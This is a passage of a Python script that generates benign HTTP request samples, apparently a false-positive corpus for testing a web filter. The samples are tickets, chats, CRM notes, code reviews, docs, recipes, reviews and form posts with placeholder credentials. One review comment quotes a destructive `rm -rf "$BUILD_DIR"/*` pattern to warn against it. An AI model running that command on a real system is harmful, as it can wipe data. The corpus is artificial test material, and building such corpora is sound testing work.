     "Would be great to filter orders by tag in the dashboard (e.g. show only 'gift' & 'rush'). Right now we export to CSV and filter in Excel "
     "with =FILTER(A:F, D:D=\"rush\"), which is tedious.", "select-plan", []),
    ("CSV import fails for file with spaces",
     "Import fails for C:\\Users\\Dana\\Documents\\exports\\customers (2).csv – maybe the space or the parentheses in the filename? "
     "Renaming it to customers.csv works.", "bug", []),
    ("Pagination repeats page 2",
     "Using fetch:\n\n```js\nconst res = await fetch(`${BASE}/v1/tickets?status=open&page=${page}`, {\n  headers: { Authorization: `Bearer ${token}` },\n});\n"
     "if (!res.ok) throw new Error(await res.text());\n```\n\nPage 3 always returns the same items as page 2.", "api", []),
    ("Phone validation too strict",
     "Phone validation rejects +44 (0)20 7946 0958. According to the error message your regex is ^\\+?[0-9 ]{7,15}$, which doesn't allow parentheses.",
     "bug", []),
    ("Merge two accounts",
     "I have two accounts (jane@acme.example and jane.doe+shop@gmail.com). Can you merge them & keep the order history of both?",
     "account", []),
    ("Screen reader announces 'button button'",
     "NVDA 2023.3 reads the 'Add to cart' button as 'button button'. The markup is <button aria-label=\"\"><svg aria-hidden=\"true\">…</svg></button> "
     "– the aria-label is empty.", "bug", []),
    ("Rate limit lower than advertised",
     "We're on the Select plan and get 429s at ~40 req/s, but the pricing page says 100 req/s. Response headers: X-RateLimit-Limit: 40, X-RateLimit-Remaining: 0.",
     "select-plan", ["select"]),
    ("Dark mode charts", "Love the new dashboard 😍🎉 but in dark mode the charts are unreadable (grey on dark grey) 🙈", "bug", []),
    ("IP allowlist sees 127.0.0.1",
     "Behind our nginx we set:\n\n```\nlocation /api/ {\n  proxy_pass http://127.0.0.1:8080;\n  proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;\n}\n```\n\n"
     "but your IP allowlist still sees 127.0.0.1 instead of the client IP.", "api", []),
    ("ModuleNotFoundError in Docker",
     "```dockerfile\nFROM python:3.12-slim\nRUN pip install example-sdk==4.1.0 && rm -rf /root/.cache\nCMD [\"python\", \"-m\", \"worker\"]\n```\n\n"
     "The container exits with `ModuleNotFoundError: No module named 'example.v2'`. Works locally with 4.0.3.", "api", ["sdk"]),
    ("Union pricing question", "Our credit union would like a quote for 40 seats; do you offer non-profit pricing? We'd drop our current vendor in June.",
     "billing", ["union"]),
]


def tickets():
    out = []
    names = ["Dana Whitfield", "Jean-Luc Perrin", "Mary O'Brien", "Akira Tanaka", "Lena Müller", "Sam Patel", "Chloé Martin"]
    for i, (title, body, cat, tags) in enumerate(TICKETS):
        doc = {"title": title, "body": body, "category": cat, "priority": ["normal", "high", "low", "urgent"][i % 4]}
        if tags:
            doc["tags"] = tags
        if i % 2 == 0:
            n = names[i % len(names)]
            doc["requester"] = {"name": n, "email": "%s@example.com" % n.lower().replace(" ", ".").replace("'", "").replace("é", "e").replace("ü", "ue")}
            if i % 4 == 0:
                doc["requester"]["accountId"] = uid("acct", i)
        if i % 3 == 0:
            doc["environment"] = {"os": ["macOS 14.3", "Windows 11 23H2", "Ubuntu 22.04"][i % 3], "browser": ["Chrome 122", "Firefox 123", "Safari 17.3"][i % 3]}
            if cat == "api":
                doc["environment"]["sdkVersion"] = "3.2.%d" % (i % 5)
        if cat in ("shipping", "billing") and i % 2:
            doc["relatedOrderId"] = uid("order", i)
        if i % 5 == 0:
            doc["created"] = iso(i, 3)
        style = "browser" if i % 3 else "client"
        out.append(benign("ticket-%03d" % i, "POST", "/api/v1/tickets", headers_for(i + 17, style),
                          jdump(doc, ascii_only=(style == "client" and i % 2 == 0)), JSON, note="support ticket: " + title, placement="json"))
    return out


CRM_NOTES = [
    "Call w/ Mary O'Brien (VP Ops) — renewal likely; wants 10% discount & net-60 terms. Follow up Fri.",
    "Met at SaaStr booth #214. Interested in the Select plan; currently on HubSpot + spreadsheets.",
    "Left voicemail. Assistant (Jenna) said he's out until 3/18.",
    "Decision maker is the CFO, not IT. Budget approved for Q3; procurement needs our W-9 & SOC 2 report.",
    "Customer asked to drop the add-on from the next invoice; updated the subscription, credit memo CM-2041 issued.",
    "Competitor: Acme Corp offered 20% off list. We matched on a 12-month term only.",
    "Emailed pricing sheet (v3, with the 'Enterprise – unlimited seats' line). No reply yet.",
    "Prefers WhatsApp over email. Speaks French & Dutch.",
    "Escalation: site down 2h on 03/12; gave 1 month credit per SLA §4.2.",
    "Demo notes: they need SSO (Okta), SCIM provisioning, and an audit-log export to S3.",
    "Contact moved to Procter & Gamble — update the account & re-assign to Tom.",
    "Churn risk: usage down 40% MoM; our champion (Dev) left the company.",
    "Signed! PO #88-1192 received, kickoff on Monday @ 10am CET.",
    "Asked whether we support select-all & bulk delete on contacts — told them it's on the Q2 roadmap.",
    "Rencontré au salon VivaTech ; intéressé par l'offre Entreprise. Relancer après le 15/04.",
    'Wants invoices addressed to "Smith & Wesson Brands, Inc." with the PO number on each line.',
    "Gesprächsnotiz: Vertrag läuft am 30.06. aus, Kündigungsfrist 3 Monate. Angebot bis KW 14 schicken.",
    "They'd like a union of both workspaces (EU + US) into one billing account; checked with finance — OK from April.",
    "Reminder: don't call before 9am PT. Best time is Tue/Thu afternoons.",
    "Sent follow-up: 'Hi Priya, great chatting today! Attaching the case study we discussed (Bob's Bait & Tackle, +38% repeat orders).'",
    "お客様より：請求書の宛名を「株式会社サンプル 経理部 御中」に変更希望。",
    "Lost deal — they went with the cheaper option; reason: 'price > features' for now. Revisit in 6 months.",
]


def crm_notes():
    out = []
    for i, text in enumerate(CRM_NOTES):
        doc = {"body": text, "type": ["call", "meeting", "email", "note"][i % 4], "authorId": 100 + i % 9,
               "pinned": i % 5 == 0, "createdAt": iso(i, 5)}
        if i % 3 == 0:
            doc["mentions"] = ["@tom.h", "@priya"][: 1 + i % 2]
        out.append(benign("crm-%03d" % i, "POST", "/api/v1/crm/contacts/%s/notes" % uid("contact", i), headers_for(i + 23, "browser"),
                          jdump(doc), JSON, note="CRM note", placement="json"))
    return out


CHATS = [
    "hey, are we still on for 3pm?", "running 5 min late 🚗", "can u send me the Q1 deck?", "lol that's hilarious 😂",
    "I'll select the winners tomorrow & post them in #general", "pls drop the table booking for friday, we're 6 now not 4",
    "👍", "ok", "Où est-ce qu'on se retrouve ? Devant la gare ?", "Kannst du mir kurz helfen? Der Drucker spinnt mal wieder 🙄",
    "明日の会議は10時からです。よろしくお願いします！", "¿Quién trae el pastel? 🎂",
    "check this out: https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s", "price is $1,299.99 - 15% = ~$1,105",
    "the build is red again, someone broke `main` 😤", "<3 thanks!!", "can you ssh into prod and check `df -h`? disk alert again",
    "meet me at Joe's Bar & Grill, 5th and Main", "I'm 5'11\" so the M should fit", "see you tmrw!", "😂😂😂",
    "it's 1/2 off today only, go go go", "Привет! Как дела? Увидимся в пятницу?", "مرحبا، كيف حالك؟",
    "shipping label attached -> order #4471", "who's bringing the ✨vibes✨ to the offsite?",
    "the union meeting moved to Thursday 6pm, room 4B", "can you update the sheet where status = pending and mark them done?",
    "jk 😅 ignore my last msg", "Wait... is it 'affect' or 'effect' here?", ">>> quoted: 'we ship Monday' — still true?",
    "brb, coffee ☕", "Thanks Zoë! Merci beaucoup 🙏", "2 + 2 = 4, unless you're in marketing 😏",
]


def chats():
    out = []
    for i, text in enumerate(CHATS):
        doc = {"text": text, "clientMsgId": uid("msg", i)}
        if i % 4 == 1:
            doc["threadTs"] = "1709640%03d.000%03d" % (i, 100 + i)
        style = "browser" if i % 3 else "client"
        out.append(benign("chat-%03d" % i, "POST", "/api/v1/conversations/%s/messages" % ("C0" + hexid(8, "chan", i % 5).upper()),
                          headers_for(i + 29, style), jdump(doc, ascii_only=(style == "client")), JSON, note="chat: " + text[:40], placement="json"))
    return out


REVIEW_COMMENTS = [
    "nit: this could be a `const` instead of `let` since it's never reassigned.",
    "This query will do a full table scan:\n\n```sql\nSELECT * FROM events WHERE lower(email) = lower($1)\n```\n\nCan we add an index on `lower(email)` or store emails normalized?",
    "Should we escape here? `el.innerHTML = user.name` is risky if names come from the API — prefer `textContent`.",
    "```suggestion\nif err != nil {\n\treturn fmt.Errorf(\"load config: %w\", err)\n}\n```",
    "Why `rm -rf \"$BUILD_DIR\"/*` and not just `rm -rf \"$BUILD_DIR\"`? If BUILD_DIR is ever empty this expands to `/*`. Please add `set -u` or `: \"${BUILD_DIR:?}\"`.",
    "LGTM 👍 — maybe rename `tmp2` to something like `pendingRefunds`?",
    "The regex `^(\\d{1,3}\\.){3}\\d{1,3}$` accepts 999.999.999.999; use `ipaddress.ip_address()` instead.",
    "This migration isn't reversible (`ALTER TABLE orders DROP COLUMN legacy_status;`). Can we add a down migration that re-adds it as nullable?",
    "Use a parameterized query: `cursor.execute(\"SELECT id FROM users WHERE email = %s\", (email,))` instead of the f-string.",
    "Missing `await` on line 42: `saveOrder(order)` returns a Promise, so errors will be swallowed.",
    "Type hint should be `dict[str, list[int]] | None` since the loader can return nothing.",
    "Can we wrap this in `useMemo`? Right now `<ProductGrid items={items} />` re-renders on every keystroke.",
    "```diff\n- for i in range(len(items)):\n-     total += items[i].price * items[i].qty\n+ total = sum(i.price * i.qty for i in items)\n```",
    "Careful: `os.path.join(base, filename)` returns `filename` unchanged if it's absolute. Check the result with `os.path.commonpath` first.",
    "The Makefile rule should depend on the objects:\n\n```make\napp: $(OBJ)\n\t$(CC) -o $@ $^ $(LDFLAGS)\n```",
    "Rust: prefer `if let Some(t) = tenants.get(&id) { ... }` over `.unwrap()`; this panics on unknown tenants.",
    "Java: `return repo.findByEmail(email).orElseThrow(() -> new NotFoundException(\"user \" + email));` reads better.",
    "Could you add a test for the `O'Brien` case? Apostrophes in last names broke the CSV export last time.",
    "Typo in the docstring: 'recieve' → 'receive'.",
    "Since this runs in CI: `kubectl -n shop get pods -l app=api -o jsonpath='{.items[*].status.phase}'` is easier to parse than grepping the table.",
    "I'd keep the `<label for=\"email\">` — without it the input has no accessible name.",
    "Does this handle `null` from the API? `order?.shipping?.line2 ?? ''` would be safer.",
]


def code_reviews():
    out = []
    files = ["src/api/orders.ts", "app/models/order.rb", "internal/config/load.go", "scripts/build.sh", "web/src/Cart.tsx",
             "services/reports/query.py", "db/migrations/20240305_drop_legacy.sql", "src/tenants.rs", "Makefile"]
    for i, text in enumerate(REVIEW_COMMENTS):
        doc = {"body": text, "path": files[i % len(files)], "line": 12 + 7 * i, "side": "RIGHT",
               "commit_id": hexid(40, "commit", i)}
        out.append(benign("review-%03d" % i, "POST", "/api/v1/repos/acme/shop/pulls/%d/comments" % (180 + i % 6),
                          headers_for(i + 31, "browser" if i % 2 else "client"), jdump(doc, ascii_only=bool(i % 2 == 0)), JSON,
                          note="code review comment", placement="json"))
    return out


DOCS = [
    ("Getting started", "# Getting started\n\nInstall the SDK:\n\n```bash\npip install example-sdk\n```\n\nThen create a client:\n\n"
     "```python\nfrom example import Client\nclient = Client(api_key=os.environ[\"EXAMPLE_API_KEY\"])\nfor order in client.orders.list(status=\"paid\"):\n    print(order.id, order.total)\n```\n"),
    ("Changelog", "## v2.4.0 (2024-03-12)\n\n### Added\n- `orders.list` accepts `created[gte]` and `created[lte]`.\n- Webhooks for `order.refunded`.\n\n"
     "### Fixed\n- Addresses with apostrophes (e.g. `O'Hare`) no longer break the CSV export.\n- `limit` above 50 now returns a clear 422.\n"),
    ("Plans", "| Plan | Seats | Price/mo |\n|------|------:|---------:|\n| Basic | 3 | $19 |\n| Select | 10 | $79 |\n| Premium | ∞ | $249 |\n\n"
     "*Prices exclude VAT. Annual billing saves 2 months.*"),
    ("Runbook: API restarts", "## Restarting the API\n\n```bash\nkubectl -n shop rollout restart deploy/api\nkubectl -n shop rollout status deploy/api --timeout=120s\n"
     "kubectl -n shop logs -l app=api --since=10m | grep -i error | tail -n 50\n```\n\nIf pods crash-loop, check `kubectl describe pod` for OOMKilled."),
    ("Runbook: stuck orders", "To find stuck orders:\n\n```sql\nSELECT id, status, updated_at\nFROM orders\nWHERE status = 'pending'\n"
     "  AND updated_at < now() - interval '1 hour';\n```\n\nThen cancel them from the admin console (Orders → Bulk actions → Cancel), not by hand."),
    ("Embedding the widget", "## Embedding the reviews widget\n\nAdd this snippet right before `</body>`:\n\n```html\n"
     "<div id=\"reviews-widget\" data-product=\"YOUR-SKU\"></div>\n<script src=\"https://cdn.example.com/widget/v2.js\" async></script>\n```\n\n"
     "If you use a CSP, allow `https://cdn.example.com` in `script-src`."),
    ("Weekly sync 2024-03-05", "**Attendees:** Ana, Tom, Zoë, Priya\n\n- [x] Ship v2.4 🚀\n- [ ] Fix flaky checkout test (Tom)\n- [ ] Q2 OKRs draft — due 3/15\n\n"
     "> \"We should measure what matters, not what's easy.\" — Ana\n\nNext: Tues @ 10:00 CET."),
    ("API-Leitfaden", "# Leitfaden für API-Designs\n\n1. Felder in `snake_case`.\n2. Datumsangaben nach ISO 8601 (`2024-03-05T14:30:00Z`).\n"
     "3. Geldbeträge als Ganzzahl in Cent – niemals als Float!\n4. Fehler im Format `application/problem+json`."),
    ("はじめに", "# はじめに\n\nこのドキュメントでは、APIの基本的な使い方を説明します。\n\n- 認証：`Authorization: Bearer <トークン>`\n- レート制限：1秒あたり100リクエスト\n\n質問があれば、サポートまでお問い合わせください 🙇"),
    ("Onboarding checklist", "### Week 1 ✅\n- Get access to GitHub, Linear & Slack\n- Read the [architecture overview](https://wiki.example.com/eng/architecture?tab=overview#services)\n"
     "- Pair with your buddy on a `good first issue`\n- Set up the dev env: `make bootstrap && make dev`"),
    ("Physics notes", "Kinetic energy: $E_k = \\frac{1}{2} m v^2$. For $m = 2\\,kg$ and $v = 3\\,m/s$, $E_k = 9\\,J$.\n\nSee also: \\(E = mc^2\\)."),
    ("Style guide: money", "Never use floats for money: `0.1 + 0.2 == 0.30000000000000004`. Store cents as `BIGINT`, format with `Intl.NumberFormat('fr-FR', { style: 'currency', currency: 'EUR' })` → « 1 234,56 € »."),
    ("FAQ", "**Q: Can I change my order after it's placed?**\nA: Yes, within 1 hour — go to *My orders → Edit*.\n\n**Q: Do you ship to P.O. boxes?**\nA: Only with USPS; UPS & FedEx can't deliver to P.O. boxes."),
]


def docs():
    out = []
    for i, (title, content) in enumerate(DOCS):
        slug = "".join(c if c.isalnum() else "-" for c in title.lower()).strip("-") or "doc-%d" % i
        doc = {"title": title, "content": content, "format": "markdown", "published": i % 2 == 0}
        out.append(benign("doc-%03d" % i, "PUT", "/api/v1/docs/%s" % quote(slug, safe=""), headers_for(i + 37, "browser"),
                          jdump(doc), JSON, note="markdown doc: " + title, placement="json"))
    return out


RECIPES = [
    ("Grandma's apple pie", ["2 1/2 cups all-purpose flour", '1 cup (2 sticks) cold butter, cut into 1/2" cubes', "6–7 Granny Smith apples",
                             "3/4 cup sugar", "1 tsp cinnamon & a pinch of nutmeg"],
     ["Preheat oven to 425°F (220°C).", 'Roll the dough to 1/8" thickness and drape it over a 9" pie dish.',
      "Bake 15 min, then reduce to 350°F and bake 35–45 min until golden & bubbly."]),
    ("Crêpes bretonnes", ["250 g de farine", "4 œufs", "½ litre de lait", "50 g de beurre fondu", "1 pincée de sel"],
     ["Mélanger la farine et les œufs, puis ajouter le lait petit à petit.", "Laisser reposer la pâte 1 h.", "Cuire à feu vif, 1 min de chaque côté."]),
    ("Shakshuka", ["2 tbsp olive oil", "1 onion, diced", "1 can (28 oz) crushed tomatoes", "4–6 eggs", "feta & parsley to serve"],
     ["Sauté onion 5 min; add spices (cumin, paprika, chili flakes).", "Add tomatoes; simmer 10 min.", "Make wells, crack in eggs, cover & cook 5–8 min."]),
    ("親子丼", ["鶏もも肉 200g", "玉ねぎ 1/2個", "卵 3個", "だし 200ml", "醤油・みりん 各大さじ2"],
     ["玉ねぎを薄切りにする。", "だしと調味料で鶏肉と玉ねぎを煮る。", "溶き卵を回し入れ、半熟でご飯にのせる。"]),
    ("Mom's 5-alarm chili", ["2 lb ground beef (80/20)", "2 cans kidney beans, drained", "3 tbsp chili powder", "1–2 habaneros (if you dare!)"],
     ["Brown the beef; drain the fat.", "Add everything else; simmer 2 hrs, stirring every 20 min.", "Serve w/ cheddar, sour cream & cornbread."]),
    ("Old Fashioned", ["2 oz bourbon", "1/4 oz simple syrup", "2 dashes Angostura bitters", "orange peel"],
     ["Stir bourbon, syrup & bitters with ice for 30 s.", "Strain over one large cube.", "Express the orange peel over the glass."]),
    ("Käsespätzle", ["400 g Mehl", "4 Eier", "200 ml Wasser", "200 g Bergkäse, gerieben", "2 Zwiebeln"],
     ["Teig schlagen, bis er Blasen wirft.", "Durch die Spätzlepresse ins kochende Salzwasser drücken.", "Schichtweise mit Käse in die Form; Röstzwiebeln drauf."]),
    ("Guacamole", ["3 ripe avocados", "1/2 red onion, finely chopped", "1 jalapeño", "juice of 1 lime", "salt to taste"],
     ["Mash avocados (leave it chunky!).", "Fold in the rest.", "Press plastic wrap onto the surface so it doesn't brown."]),
    ("Sourdough loaf (75% hydration)", ["500 g bread flour", "375 g water", "100 g active starter", "10 g salt"],
     ["Autolyse 1 h; add starter & salt.", "4 sets of stretch & folds, 30 min apart.", "Cold retard 12–16 h at 38°F; bake at 500°F covered 20 min, 450°F uncovered 25 min."]),
    ("Pad Thai", ["200 g rice noodles", "2 tbsp tamarind paste", "1 tbsp fish sauce", "1 tbsp palm sugar", "bean sprouts, peanuts & lime"],
     ["Soak noodles 30 min.", "Stir-fry garlic & tofu; push aside, scramble an egg.", "Add noodles + sauce; toss 2–3 min."]),
]


def recipes():
    out = []
    for i, (title, ingredients, steps) in enumerate(RECIPES):
        doc = {"title": title, "ingredients": ingredients, "steps": steps, "servings": 2 + i % 6,
               "prepMinutes": 10 + 5 * i, "tags": [["dessert"], ["breakfast", "french"], ["vegetarian"], ["japanese"], ["spicy"]][i % 5]}
        out.append(benign("recipe-%03d" % i, "POST", "/api/v1/recipes", headers_for(i + 41, "browser"), jdump(doc), JSON,
                          note="recipe: " + title, placement="json"))
    return out


PRODUCTS = [
    ("CHN-SLIM-32", "Slim-fit chinos", 'Model is 5\'11" and wears size 32x32. 98% cotton / 2% elastane. Machine wash cold.'),
    ("PLY-BIRCH-34", "Birch plywood 3/4 in.", "3/4 inch birch plywood, 4' x 8' sheet. Sanded both sides; ideal for cabinets & shelving."),
    ("COAT-WOOL-M", "Wool overcoat", "SPRING SALE – 50% off! Limited stock; while supplies last.* *Excludes clearance items."),
    ("SKL-CI-12IN", "Cast-iron skillet 12\"", 'Cast-iron skillet, 12" (30 cm). Pre-seasoned with 100% vegetable oil. Oven-safe to 500°F.'),
    ("BOOT-KIDS-5T", "Kids' rain boots", "Kids' rain boots — sizes 5T–13 (US). Pull-on handles; non-slip sole. Runs 1/2 size small."),
    ("HDP-BT53-BLK", "Wireless headphones", "Bluetooth 5.3: 40 h battery, <50 ms latency in game mode, USB-C fast charge (10 min = 5 h)."),
    ("FRM-24X36-AL", "Poster frame 24x36", 'Poster frame 24" x 36" – black aluminum, plexiglass front (not glass!). Hanging hardware incl.'),
    ("TEA-COFFRET-12", "Coffret découverte", "Coffret découverte : 12 thés d'exception – Darjeeling, Sencha, Earl Grey… Idéal pour offrir !"),
    ("WS-DAMEN-GTX", "Wanderschuhe Damen", "Wanderschuhe für Damen, wasserdicht (GORE-TEX®), Größe 36–42. Fällt eine halbe Nummer kleiner aus."),
    ("RICE-YUME-5KG", "ゆめぴりか 5kg", "北海道産 ゆめぴりか 5kg 【令和5年産】 ふっくら甘い、つやのあるお米です。"),
    ("TOY-CHEW-L", "Chew toy", "Your dog's favorite chew toy 🦴 – BPA-free, dishwasher safe (top rack). For dogs 30–70 lbs."),
    ("BOLT-M8-50", "Hex bolts M8", "M8 x 1.25 hex bolts, 50 mm, grade 8.8, zinc plated — pack of 25."),
    ("RES-KIT-600", "Resistor kit", "Resistor kit: 1/4 W, 1% tolerance, 10 Ω – 1 MΩ (600 pcs, 30 values)."),
    ("TV-MNT-65", "TV wall mount", 'Wall mount for 32"–65" TVs, VESA 100x100 to 400x400, max 45 kg (99 lbs). Tilt ±15°.'),
    ("GC-DIGITAL", "Gift card", "Gift card – choose $25, $50 or $100. Never expires; no fees. Delivered by e-mail within minutes."),
    ("SOFA-3S-GRY", "3-seat sofa", 'W 84" x D 38" x H 33". Seat height 18". Fits through a 30" doorway (legs unscrew).'),
]


def products():
    out = []
    for i, (sku, title, desc) in enumerate(PRODUCTS):
        doc = {"title": title, "description": desc, "price": {"amount": 1999 + 250 * i, "currency": ["USD", "EUR", "JPY"][i % 3]},
               "attributes": {"material": ["cotton", "birch", "wool", "cast iron"][i % 4], "origin": ["US", "FR", "DE", "JP"][i % 4]},
               "active": True}
        out.append(benign("product-%03d" % i, "PUT", "/api/v1/admin/products/%s" % sku, headers_for(i + 43, "browser"), jdump(doc), JSON,
                          note="product description: " + title, placement="json"))
    return out


REVIEWS = [
    ("en", 5, "Exactly as described", "Fits perfectly — I'm 5'9\" and the medium is spot on. Would buy again!"),
    ("fr", 4, "Très bon produit", "C'est vraiment génial ! L'emballage était un peu abîmé, mais le produit fonctionne parfaitement."),
    ("de", 2, "Leider zu klein", "Größe passt nicht – fällt mindestens eine Nummer kleiner aus. Rücksendung war aber problemlos."),
    ("es", 5, "¡Me encanta!", "Llegó antes de lo previsto y la calidad es excelente. ¡Gracias!"),
    ("it", 3, "Così così", "Il colore è diverso dalla foto; per il resto va bene. Spedizione veloce."),
    ("ja", 5, "大満足です", "配送が早くて助かりました。品質も良く、また購入したいと思います。"),
    ("zh", 4, "不错", "质量很好，就是物流有点慢。总体满意！"),
    ("ko", 5, "최고예요", "배송도 빠르고 제품도 너무 마음에 들어요. 강추합니다!"),
    ("pt", 4, "Muito bom", "Produto de ótima qualidade, só achei o preço um pouco alto. Recomendo."),
    ("ru", 1, "Разочарован", "Пришёл с трещиной, поддержка ответила только через неделю."),
    ("ar", 5, "ممتاز", "المنتج رائع والتوصيل سريع جداً. شكراً لكم!"),
    ("he", 4, "טוב מאוד", "איכות מעולה, המשלוח לקח קצת זמן."),
    ("pl", 5, "Polecam", "Świetna jakość, szybka wysyłka. Zamówię ponownie!"),
    ("tr", 3, "Fena değil", "Ürün güzel ama kargo paketi ezik geldi."),
    ("nl", 4, "Prima", "Goed product voor de prijs; de handleiding is wel alleen in het Engels."),
    ("hi", 5, "बहुत बढ़िया", "उत्पाद की गुणवत्ता बहुत अच्छी है। धन्यवाद!"),
    ("en", 5, "🔥🔥🔥", "😍😍 10/10 would recommend!! 💯"),
    ("en", 2, "Not for tall people", "I'm 6'3\" and the 'long' size still ends above my ankles. Returned it :("),
    ("en", 4, "Good skillet", "Heats evenly. Tip: preheat on medium for 5 min & don't use soap the first few times."),
    ("en", 3, "Meh", "It's OK. The 3/4\" bolts it came with were the wrong size (needed 5/8\"), had to buy new ones at Lowe's."),
]


def reviews():
    out = []
    for i, (lang, rating, title, text) in enumerate(REVIEWS):
        doc = {"rating": rating, "title": title, "text": text, "lang": lang, "verifiedPurchase": i % 3 != 2}
        style = "browser" if i % 4 else "client"
        out.append(benign("review-txt-%03d" % i, "POST", "/api/v1/products/%s/reviews" % PRODUCTS[i % len(PRODUCTS)][0],
                          headers_for(i + 47, style), jdump(doc, ascii_only=(style == "client")), JSON,
                          note="product review (%s)" % lang, placement="json"))
    return out


def forms():
    F = [
        ("/login", [("username", "jane.doe@example.com"), ("password", "Tr0ub4dor&3"), ("remember_me", "on")], "login form"),
        ("/api/v1/newsletter", [("email", "sam+news@example.com"), ("lists[]", "weekly"), ("lists[]", "deals"), ("consent", "true")], "newsletter signup"),
        ("/contact", [("name", "Seán O'Neill"), ("email", "sean.oneill@example.ie"), ("subject", 'Quote for 3/4" brass fittings'),
                      ("message", "Hi,\r\nCould you quote 200 pcs of 3/4\" NPT elbows & 50 tees? Delivery to Cork.\r\nThanks,\r\nSeán")], "contact form"),
        ("/oauth/token", [("grant_type", "authorization_code"), ("code", "SplxlOBeZQQYbYS6WxSbIA"), ("redirect_uri", "https://app.example.com/callback"),
                          ("client_id", "s6BhdRkqt3"), ("code_verifier", "dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk")], "OAuth code exchange"),
        ("/oauth/token", [("grant_type", "refresh_token"), ("refresh_token", "tGzv3JOkF0XG5Qx2TlKWIA"), ("client_id", "s6BhdRkqt3")], "OAuth refresh"),
        ("/oauth/token", [("grant_type", "client_credentials"), ("scope", "orders:read orders:write")], "OAuth client credentials"),
        ("/v1/charges", [("amount", "4999"), ("currency", "eur"), ("description", "Order #10045 – 2x Ceramic Mug (11 oz)"),
                         ("metadata[order_id]", "10045"), ("metadata[customer_note]", "It's a gift!")], "payments API form body"),
        ("/2010-04-01/Accounts/AC%s/Messages.json" % hexid(32, "twilio"), [("To", "+15558675309"), ("From", "+15017122661"),
                                                                          ("Body", "Your code is 482913. Don't share it with anyone.")], "SMS API form body"),
        ("/api/v1/feedback", [("rating", "4"), ("comment", "Checkout was smooth, but the coupon field is hidden on mobile :(")], "feedback form"),
        ("/signup", [("first_name", "Zoë"), ("last_name", "D'Souza"), ("company", "Smith & Sons Ltd."), ("email", "zoe@smithandsons.example"),
                     ("password", "correct horse battery staple"), ("terms", "1")], "signup form"),
        ("/account/address", [("line1", "12 O'Connell St."), ("line2", "Apt #4"), ("city", "Dublin"), ("postcode", "D01 F5P2"), ("country", "IE")], "address form"),
        ("/search", [("q", "kids' rain boots size 10"), ("sort", "price_asc")], "search form POST"),
        ("/checkout/gift-message", [("message", "Happy 30th, Sam!! 🎉 Love, Mum & Dad xx")], "gift message"),
        ("/api/v1/slack/commands", [("token", "gIkuvaNzQIHg97ATvDxqgjtO"), ("team_id", "T0001"), ("team_domain", "acme"),
                                    ("channel_name", "deploys"), ("user_name", "priya"), ("command", "/deploy"), ("text", "api to staging --force"),
                                    ("response_url", "https://hooks.slack.com/commands/1234/5678"), ("trigger_id", "13345224609.738474920.8088930838d88f008e0")], "Slack slash command"),
        ("/api/v1/sms/inbound", [("MessageSid", "SM" + hexid(32, "sms")), ("From", "+447700900123"), ("To", "+441632960961"),
                                 ("Body", "STOP"), ("NumMedia", "0")], "inbound SMS webhook"),
        ("/api/v1/sms/inbound", [("MessageSid", "SM" + hexid(32, "sms2")), ("From", "+33612345678"), ("To", "+441632960961"),
                                 ("Body", "Bonjour, je voudrais décaler ma livraison à jeudi svp. Merci !"), ("NumMedia", "0")], "inbound SMS (fr)"),
        ("/sso/saml/acs", [("SAMLResponse", base64.b64encode((
            '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_%s" Version="2.0" IssueInstant="2024-03-05T10:12:01Z" '
            'Destination="https://app.example.com/sso/saml/acs"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">'
            'http://www.okta.com/exk1fcia6d6EMsf331d8</saml:Issuer><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/>'
            '</samlp:Status></samlp:Response>' % hexid(32, "saml")).encode()).decode()), ("RelayState", "https://app.example.com/dashboard?tab=billing")], "SAML POST binding"),
        ("/api/v1/profile", [("display_name", "Renée"), ("bio", "Baker & bike mechanic. 🚲 Opinions are my own; typos are my cat's."), ("website", "https://renee.example/blog?lang=fr")], "profile form"),
        ("/api/v1/comments", [("post_id", "8812"), ("body", "Great write-up! One question: does the 50% discount stack with the student code?")], "blog comment form"),
        ("/api/v1/support/callback", [("phone", "+1 (415) 555-0132"), ("best_time", "after 5pm PT"), ("topic", "billing & invoices")], "callback request"),
    ]
    out = []
    for i, (path, pairs, note) in enumerate(F):
        style = "browser" if i % 3 != 1 else "client"
        out.append(benign("form-%03d" % i, "POST", path, headers_for(i + 53, style), form_body(pairs), FORM if i % 5 else FORM + "; charset=UTF-8",
                          note=note, placement="form", encoding="plus"))
    # multipart uploads
    boundary = "----WebKitFormBoundary7MA4YWxkTrZu0gW"
    csv = ('name,email,notes\r\n"O\'Brien, Mary",mary@example.com,"Prefers ""Ms."" — call after 5pm"\r\n'
           'Jürgen Weiß,j.weiss@example.de,VIP & wholesale\r\nChloé Martin,chloe@example.fr,\r\n').encode("utf-8")
    png = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000") + hashlib.sha256(b"px").digest() + bytes.fromhex("0000000049454e44ae426082")
    parts = [
        ("/api/v1/imports/contacts", [("file", "contacts (2).csv", "text/csv", csv), ("dedupe", None, None, b"true")], "multipart CSV import"),
        ("/api/v1/users/me/avatar", [("avatar", "me.png", "image/png", png)], "multipart avatar upload"),
        ("/api/v1/attachments?ticket=4471", [("comment", None, None, "Screenshot of the error attached – see the red banner at the top.".encode()),
                                         ("file", "Screenshot 2024-03-05 at 10.12.01.png", "image/png", png)], "multipart ticket attachment"),
    ]
    for i, (path, fields, note) in enumerate(parts):
        body = b""
        for name, filename, ctype, data in fields:
            body += ("--%s\r\n" % boundary).encode()
            if filename:
                body += ('Content-Disposition: form-data; name="%s"; filename="%s"\r\nContent-Type: %s\r\n\r\n' % (name, filename, ctype)).encode()
            else:
                body += ('Content-Disposition: form-data; name="%s"\r\n\r\n' % name).encode()
            body += data + b"\r\n"
        body += ("--%s--\r\n" % boundary).encode()
        out.append(benign("multipart-%03d" % i, "POST", path, browser(i + 59), body, "multipart/form-data; boundary=" + boundary,
                          note=note, placement="multipart"))
    return out


GRAPHQL = [
    ("GetProduct", "query GetProduct($id: ID!) {\n  product(id: $id) {\n    id\n    title\n    priceRange { minVariantPrice { amount currencyCode } }\n"
     "    images(first: 5) { edges { node { url altText } } }\n  }\n}", {"id": "gid://shop/Product/7982853619"}),
    ("AddToCart", "mutation AddToCart($cartId: ID!, $lines: [CartLineInput!]!) {\n  cartLinesAdd(cartId: $cartId, lines: $lines) {\n"
